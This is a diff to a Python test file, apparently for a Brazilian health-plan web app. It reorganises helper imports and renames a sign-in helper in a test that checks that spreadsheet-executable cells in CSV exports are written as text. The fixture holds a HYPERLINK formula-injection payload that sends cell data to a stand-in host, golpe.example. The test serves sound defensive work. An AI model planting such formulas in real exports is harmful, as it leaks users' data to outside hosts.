@@ -4,9 +4,10 @@ one (a provider named ``=HYPERLINK(...)``) is written as text, as in the audit l
 import csv
 import io
 
+from tests.support.clock import TODAY
+from tests.support.history import usage_row, write_csv
+from tests.support.members import CASSEMS, family_of, holder_cpf, signed_in
 from webapp.history.importer import import_usage
-
-from .conftest import CASSEMS, TODAY, family_of, holder_cpf, sign_in, usage_row, write_csv
 
 LINK = '=HYPERLINK("http://golpe.example/?d="&A1;"Clique aqui")'
 
@@ -24,7 +25,7 @@ def test_cells_that_a_spreadsheet_would_run_are_written_as_text(client, families
     assert report.rejects == [] and report.accepted == 3
     families.flush()
 
-    sign_in(client, holder_cpf(CASSEMS))
+    signed_in(client, holder_cpf(CASSEMS))
     response = client.get("/extrato.csv?ano=2026")
     assert response.status_code == 200 and response.mimetype == "text/csv"
     table = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
